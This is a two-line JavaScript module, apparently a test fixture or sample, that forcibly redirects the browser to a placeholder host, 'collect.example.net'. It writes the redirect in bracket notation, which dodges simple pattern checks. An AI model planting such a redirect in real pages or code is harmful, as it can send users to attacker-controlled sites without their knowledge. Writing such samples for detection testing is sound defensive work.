window["location"]["href"] = "https://collect.example.net";
export {};
